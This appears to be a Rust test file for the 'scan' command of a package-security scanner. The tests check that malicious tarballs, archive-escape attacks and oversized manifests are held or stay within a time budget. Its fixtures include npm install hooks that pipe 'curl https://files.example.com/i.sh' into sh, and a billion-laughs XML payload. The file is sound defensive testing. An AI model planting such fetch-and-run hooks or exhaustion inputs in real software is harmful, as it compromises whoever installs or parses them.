//! `scan`: archives and folders of this machine, without network, cache or configuration.

use crate::lab::{Lab, Run, dropper};
use bifocal_core::{ArchiveLimits, Sha256};
use bifocal_testkit::NpmPackage;
use bifocal_testkit::hostile::compress::gzip;
use bifocal_testkit::hostile::tar::TarBuilder;
use bifocal_testkit::hostile::{friendly_archives, hostile_archives};
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;

fn lines(run: &Run) -> Vec<Value> {
    run.stdout.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"))).collect()
}

/// A folder with a plain tarball, one that is held, and a folder that is held.
fn lab() -> Lab {
    let lab = Lab::new();
    lab.write("plain.tgz", NpmPackage::new("plain", "1.0.0").build().artifact().bytes());
    lab.write("bad one.tgz", dropper("bad", "1.0.0").build().artifact().bytes());
    lab.write(
        "folder/package.json",
        r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
    );
    lab
}

#[test]
fn each_path_is_a_line_in_input_order_with_every_field() {
    let lab = lab();
    let run = lab.run(&["scan", "--format", "jsonl", "plain.tgz", "bad one.tgz", "nowhere.tgz", "folder"]).expect(1);
    let found = lines(&run);
    let paths: Vec<&str> = found.iter().map(|line| line["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["plain.tgz", "bad one.tgz", "nowhere.tgz", "folder"]);
    for line in &found {
        let mut fields: Vec<&str> = line.as_object().unwrap().keys().map(String::as_str).collect();
        fields.sort_unstable();
        assert_eq!(fields, ["error", "millis", "path", "schema_version", "score", "sha256", "signals", "verdict"]);
        assert_eq!(line["schema_version"], 1);
    }
    let plain = Sha256::of(&std::fs::read(lab.project().join("plain.tgz")).unwrap());
    assert_eq!(found[0]["sha256"], plain.to_string());
    let verdicts: Vec<Option<&str>> = found.iter().map(|line| line["verdict"].as_str()).collect();
    assert_eq!(verdicts, [Some("allow"), Some("hold"), None, Some("hold")]);
    assert!(found[2]["error"].as_str().unwrap().contains("cannot read it"), "{}", found[2]);
    assert!(found[0]["error"].is_null() && found[2]["sha256"].is_null() && found[3]["sha256"].is_null());
    let signal = &found[1]["signals"][0];
    assert_eq!(
        (signal["evidence"][0]["path"].as_str(), signal["kind"].as_str()),
        (Some("package/package.json"), Some("malware")),
        "{signal}"
    );
    assert!(lab.upstream.log().is_empty());
}

#[test]
fn exit_codes_are_those_of_check() {
    let lab = lab();
    lab.run(&["scan", "plain.tgz"]).expect(0).says(&["1 clean"]);
    lab.run(&["scan", "plain.tgz", "nowhere.tgz"]).expect(3).says(&["ERROR nowhere.tgz", "1 not read, 1 clean"]);
    lab.run(&["scan", "nowhere.tgz", "folder"]).expect(1).says(&[
        "HOLD",
        "folder",
        "package.json:1:",
        "curl -s https://files.example.com/i.sh",
        "1 held, 1 not read",
    ]);
    lab.run(&["scan", "--fail-on", "deny", "folder"]).expect(0);
    lab.run(&["scan", "--fail-on", "deny", "folder", "nowhere.tgz"]).expect(3);
    lab.run(&["scan", "--format", "cyclonedx", "plain.tgz"])
        .expect(2)
        .complains(&["cyclonedx", "[possible values: human, json, jsonl, sarif]"]);
    lab.run(&["scan", "--files-from", "nowhere.txt"]).expect(2).complains(&["cannot read the list of paths nowhere.txt"]);
}

#[test]
fn paths_come_from_a_file_or_from_standard_input() {
    let lab = lab();
    lab.write("list.txt", "plain.tgz\n\nbad one.tgz\n");
    let found = lines(&lab.run(&["scan", "--format", "jsonl", "--files-from", "list.txt", "folder"]).expect(1));
    assert_eq!(found.iter().map(|line| line["path"].as_str().unwrap()).collect::<Vec<_>>(), ["folder", "plain.tgz", "bad one.tgz"]);
    let mut command = lab.command(&["scan", "--format", "jsonl", "--jobs", "1", "--files-from", "-"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"plain.tgz\n").unwrap();
    let found = lines(&Run::from(child.wait_with_output().unwrap()).expect(0));
    assert_eq!(found.len(), 1);
    lab.write("empty.txt", "\n\n");
    lab.run(&["scan", "--files-from", "empty.txt"]).expect(2).complains(&["nothing was named to scan"]);
    lab.run(&["scan", "--files-from", "empty.txt", "plain.tgz"]).expect(0);
}

#[test]
fn nothing_is_needed_but_the_file() {
    let lab = lab();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_bifocal"));
    command.env_clear().args(["scan", "bad one.tgz"]).current_dir(lab.project());
    Run::of(command).expect(1).says(&["1 held"]);
    assert!(!lab.cache().exists(), "scan keeps no cache");
}

#[test]
fn an_archive_and_its_folder_get_the_same_findings() {
    let lab = Lab::new();
    let built = dropper("bad", "1.0.0").file("index.js", "module.exports = 1;\n").build();
    lab.write("bad.tgz", built.artifact().bytes());
    let unpacked = lab.run(&["scan", "--format", "json", "bad.tgz"]).expect(1);
    let unpacked: Value = serde_json::from_str(&unpacked.stdout).unwrap();
    lab.write(
        "package/package.json",
        r#"{"name":"bad","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
    );
    let folder: Value = serde_json::from_str(&lab.run(&["scan", "--format", "json", "package"]).expect(1).stdout).unwrap();
    let ids = |report: &Value| {
        report["paths"][0]["signals"].as_array().unwrap().iter().map(|signal| signal["id"].to_string()).collect::<Vec<_>>()
    };
    assert_eq!(ids(&unpacked), ids(&folder));
}

#[test]
fn every_hostile_archive_is_held_as_refused_and_nothing_is_written() {
    let lab = Lab::new();
    // Bombs under smaller limits fit under ours.
    let attacks: Vec<_> =
        hostile_archives().into_iter().filter(|attack| !attack.only_when_strict && attack.limits == ArchiveLimits::default()).collect();
    assert!(attacks.len() >= 60, "{} attacks", attacks.len());
    let mut list = String::new();
    for attack in &attacks {
        // A text or an empty file is looked at by itself, unless its name claims that it is more.
        let end = if matches!(attack.name, "no-archive" | "nothing") { ".tgz" } else { "" };
        lab.write(&format!("attacks/{}{end}", attack.name), &attack.bytes);
        list.push_str(&format!("attacks/{}{end}\n", attack.name));
    }
    lab.write("list.txt", list);
    let found = within_budget(&lab, &["--files-from", "list.txt"], &[1]);
    assert_eq!(found.len(), attacks.len());
    for (line, attack) in found.iter().zip(&attacks) {
        let failed: Vec<&Value> = line["signals"].as_array().unwrap().iter().filter(|signal| signal["status"] == "failed").collect();
        let refusals: Vec<&str> = failed.iter().filter_map(|signal| signal["evidence"][0]["id"].as_str()).collect();
        assert_eq!((refusals, line["verdict"].as_str()), (vec![attack.refusal], Some("hold")), "{}: {line}", attack.name);
        assert_eq!(failed[0]["id"], "behaviour/archive-refused", "{}", attack.name);
    }
    let mut left: Vec<String> =
        std::fs::read_dir(lab.project()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    left.sort();
    assert_eq!(left, ["attacks", "list.txt"]);
    assert_eq!(std::fs::read_dir(lab.project().join("attacks")).unwrap().count(), attacks.len());
}

/// Scans with a budget of processor time far below the default, and asserts that nothing was slower than that.
fn within_budget(lab: &Lab, arguments: &[&str], codes: &[i32]) -> Vec<Value> {
    const SECONDS: u64 = 10;
    let mut command = lab.command(&[&["scan", "--format", "jsonl"], arguments].concat());
    command.env("BIFOCAL_ANALYSIS_SECONDS", SECONDS.to_string());
    let run = Run::of(command);
    assert!(run.code.is_some_and(|code| codes.contains(&code)), "{run}");
    let found = lines(&run);
    for line in &found {
        let millis = line["millis"].as_u64().unwrap();
        assert!(millis <= SECONDS * 1000, "{} took {millis} ms of processor time", line["path"]);
    }
    found
}

#[test]
fn hostile_manifests_stay_within_the_budget_of_time() {
    let deep = |open: &str, close: &str, levels: usize| format!("{}{}", open.repeat(levels), close.repeat(levels));
    let laughs: String = (1..60).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
    let many = |line: &str, times: usize| line.repeat(times);
    let manifests: Vec<(&str, &str, String)> = vec![
        ("deep-json", "package/package.json", format!("{{\"name\":\"x\",\"a\":{}}}", deep("[", "]", 1_000_000))),
        ("many-keys", "package/package.json", format!("{{\"name\":\"x\"{}}}", many(",\"a\":\"b\"", 500_000))),
        ("many-scripts", "package/package.json", {
            let scripts: Vec<String> = (0..100_000).map(|at| format!("\"s{at}\":\"node s{at}.js && sh -c 'echo $(cat a)'\"")).collect();
            format!("{{\"name\":\"x\",\"scripts\":{{{}}}}}", scripts.join(","))
        }),
        (
            "one-long-script",
            "package/package.json",
            format!("{{\"name\":\"x\",\"scripts\":{{\"postinstall\":\"{}\"}}}}", many("sh -c $(", 200_000)),
        ),
        ("deep-toml", "x-1/pyproject.toml", format!("a = {}", deep("[", "]", 500_000))),
        ("deep-tables", "x-1/Cargo.toml", format!("[{}a]", many("a.", 300_000))),
        ("long-header", "x-1/PKG-INFO", format!("Name: x\nVersion: 1\n{}", many("Requires-Dist: a (>=1); b\n", 200_000))),
        ("deep-xml", "META-INF/maven/a/b/pom.xml", format!("<project>{}</project>", deep("<a>", "</a>", 500_000))),
        ("laughing-xml", "META-INF/maven/a/b/pom.xml", format!("<!DOCTYPE project [<!ENTITY l0 \"ha\">{laughs}]><project>&l59;</project>")),
        ("long-manifest", "META-INF/MANIFEST.MF", format!("Manifest-Version: 1.0\nMain-Class: {}\n", many("a.\n ", 500_000))),
        ("deep-gyp", "package/binding.gyp", deep("{'a':[", "]}", 300_000)),
        (
            "many-requirements",
            "example.com/m@v1.0.0/go.mod",
            format!("module example.com/m\n{}", many("require a.example/b v1.0.0\n", 300_000)),
        ),
    ];
    let lab = Lab::new();
    for (name, path, text) in &manifests {
        lab.write(&format!("{name}.tgz"), gzip(&TarBuilder::new().file(path, text.as_bytes()).finish()));
    }
    let files: Vec<String> = manifests.iter().map(|(name, ..)| format!("{name}.tgz")).collect();
    let found = within_budget(&lab, &files.iter().map(String::as_str).collect::<Vec<_>>(), &[0, 1]);
    assert_eq!(found.len(), manifests.len());
    for line in &found {
        assert!(line["error"].is_null() && line["verdict"].is_string(), "{line}");
    }
}

/// Everything below a folder: a file by its digest, a link by its target.
fn all_below(folder: &Path) -> BTreeMap<PathBuf, String> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap()) {
            let (path, kind) = (entry.path(), entry.file_type().unwrap());
            let what = if kind.is_dir() {
                folders.push(path.clone());
                "folder".to_owned()
            } else if kind.is_symlink() {
                format!("link to {}", std::fs::read_link(&path).unwrap().display())
            } else {
                Sha256::of(&std::fs::read(&path).unwrap()).to_string()
            };
            found.insert(path, what);
        }
    }
    found
}

/// Attacks aim at the working folder, at those above it, at the user's folders and at the root.
#[test]
fn no_attack_leaves_a_file_anywhere_near() {
    let lab = Lab::new();
    let root = lab.beside("watched");
    let work = root.join("a/b/c/work");
    let folder = |name: &str| {
        let path = root.join(name);
        std::fs::create_dir_all(&path).unwrap();
        path
    };
    std::fs::create_dir_all(work.join("attacks")).unwrap();
    std::fs::write(work.join("secret"), "as it was").unwrap();
    let attacks = hostile_archives();
    let list: String = attacks.iter().map(|attack| format!("attacks/{}.tgz\n", attack.name)).collect();
    for attack in &attacks {
        std::fs::write(work.join(format!("attacks/{}.tgz", attack.name)), &attack.bytes).unwrap();
    }
    std::fs::write(work.join("list.txt"), list).unwrap();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_bifocal"));
    command.env_clear().args(["scan", "--format", "jsonl", "--files-from", "list.txt"]).current_dir(&work);
    for (variable, name) in [
        ("HOME", "home"),
        ("TMPDIR", "tmp"),
        ("XDG_CACHE_HOME", "cache"),
        ("XDG_CONFIG_HOME", "config"),
        ("XDG_DATA_HOME", "data"),
        ("XDG_STATE_HOME", "state"),
        ("XDG_RUNTIME_DIR", "runtime"),
    ] {
        command.env(variable, folder(name));
    }
    let outside = [Path::new("/escaped.txt"), Path::new("/tmp/escaped.txt")];
    let (before, then) = (all_below(&root), outside.map(Path::exists));
    let found = lines(&Run::of(command).expect(1));
    assert_eq!(found.len(), attacks.len());
    assert_eq!(all_below(&root), before);
    assert_eq!(outside.map(Path::exists), then);
}

#[test]
fn every_friendly_archive_is_clean() {
    let lab = Lab::new();
    let mut arguments = vec!["scan".to_owned(), "--format".to_owned(), "jsonl".to_owned()];
    for archive in friendly_archives() {
        lab.write(archive.name, &archive.bytes);
        arguments.push(archive.name.to_owned());
    }
    for line in lines(&lab.run(&arguments).expect(0)) {
        assert_eq!((line["verdict"].as_str(), line["signals"].as_array().unwrap().len()), (Some("allow"), 0), "{line}");
    }
}

#[test]
fn neither_links_nor_special_files_are_followed() {
    let lab = Lab::new();
    lab.write("folder/index.js", "module.exports = 1;\n");
    std::os::unix::fs::symlink("/etc", lab.project().join("folder/etc")).unwrap();
    std::os::unix::fs::symlink("index.js", lab.project().join("folder/self.js")).unwrap();
    lab.run(&["scan", "folder"]).expect(0);
    lab.run(&["scan", "/dev/null", "/dev/zero"]).expect(3).says(&["neither a file nor a folder", "2 not read"]);
}
